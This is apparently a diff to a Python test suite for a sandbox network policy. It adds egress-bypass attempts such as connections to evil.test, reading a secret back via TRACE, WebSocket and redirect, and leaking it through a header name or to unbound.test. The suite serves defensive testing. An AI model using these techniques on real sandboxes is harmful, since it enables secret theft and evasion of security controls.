@@ -1,9 +1,9 @@
 """Ways around the policy, tried from inside a sandbox.
 
 An attempt is Python that runs inside, as root, with these names: PREY, a port on which the host listens by TCP and UDP on every address;
-HOST, one of the host's own addresses; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS; API, the port of
-api.test, to which a secret is bound whose placeholder is in CANARY, of unbound.test, to which it is not, and of rules.test, where GET of /ok* alone is
-allowed. It may use the helpers of PRELUDE. It has got through when the host's listener heard of it, when it prints THROUGH or the secret's
+HOST, one of the host's own addresses; LENGTH, how long the secret's value is; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS; API, the port of
+api.test, to which two secrets are bound whose placeholders are in CANARY and TOKEN, of unbound.test, to which it is not, and of rules.test, where GET of /ok* alone is
+allowed. It may use the helpers of PRELUDE. It has got through when the host's listener heard of it, when it prints THROUGH or a secret's
 value, when unbound.test heard the value, or rules.test another request than it may. `needs` names the guard that
 alone stops it, where one does: it is left out in turn, and the attempt must then get through. None: what stops it is how things are built
 (no route, no parser that would take it), not a check that can be left out.
@@ -94,8 +94,16 @@ def body(d):
         n, _, rest = rest.partition(b"\r\n")
         out, rest = out + rest[: int(n, 16)], rest[int(n, 16) + 2 :]
     return out
-CANARY = os.environ.get("CANARY", "")
+CANARY, TOKEN = os.environ.get("CANARY", ""), os.environ.get("TOKEN", "")
 KEY = "X-Key: " + CANARY
+def frame_of_key():
+    """The first frame that /ws sends: the key that it was given."""
+    c = reader()
+    c.sendall(("GET /ws HTTP/1.1\r\nHost: api.test:%d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+               "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n%s\r\n\r\n" % (API, KEY)).encode())
+    head, _, d = head_of(c).partition(b"\r\n\r\n")
+    while len(d) < 2 or len(d) < 2 + d[1]: d += c.recv(4096)
+    return d[2 : 2 + d[1]]
 def udp(host, port, data=b"hello", family=socket.AF_INET):
     s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (host, port))
     try: print("answered by", s.recvfrom(100)[1])
@@ -137,6 +145,7 @@ ATTEMPTS = {
     "user_in_authority": (None, "connect('web.test@evil.test:%d' % PREY)"),
     "space_in_name": (None, "socks(3, name(b'web.test evil.test'), PREY)"),
     "name_to_private": ("addresses", "connect('private.test:%d' % PREY)"),
+    "address_of_a_name_inside": ("inside", "c, head = tunnel('inside.test:%d' % PREY); print('THROUGH' if b'10.9.8.7' in head + all_of(c) else '')"),
     "rebinding": (None, "[connect('rebind.test:%d' % PREY) for i in range(4)]"),
     "direct_by_resolver": ("policy", "direct('evil.test', PREY)"),
     "allowed_name_on_other_port": ("policy", "connect('web.test:%d' % PREY)"),
@@ -206,6 +215,9 @@ ATTEMPTS = {
     "secret_echoed_by_trace": ("scrub", "print(get('/echo', 'api.test', KEY, method='TRACE'))"),
     "secret_echoed_compressed": ("compressed", "import zlib; print(zlib.decompressobj(31).decompress(body(get('/echo-gzip', 'api.test', KEY))))"),
     "secret_echoed_in_parts": ("hidden", "print(b''.join(body(get('/echo-key', 'api.test', KEY, 'Range: bytes=%d-%d' % (i, i)))[:1] for i in range(30)))"),
+    "secret_echoed_as_a_headers_name": ("names", "print(get('/echo-name', 'api.test', 'X-Key: ' + TOKEN))"),
+    "secret_s_length_by_websocket": ("scrub", "print('THROUGH' if len(frame_of_key()) == LENGTH else '')"),
+    "secret_guessed": ("guessing", "print('THROUGH' if [CANARY.encode() in get('/echo-key', 'api.test', KEY) for i in range(100)][-1] else '')"),
     "secret_by_redirect": ("scrub", "d=get('/redirect', 'api.test', KEY); l=[x.split(None,1)[1] for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')][0].decode(); get('/' + l.split('/', 3)[3], 'unbound.test')"),
     # odd ports, other sandboxes, waiting
     "odd_port": ("policy", "[connect('web.test:%d' % p) for p in (1, 22, 25, PREY, 65535)]"),
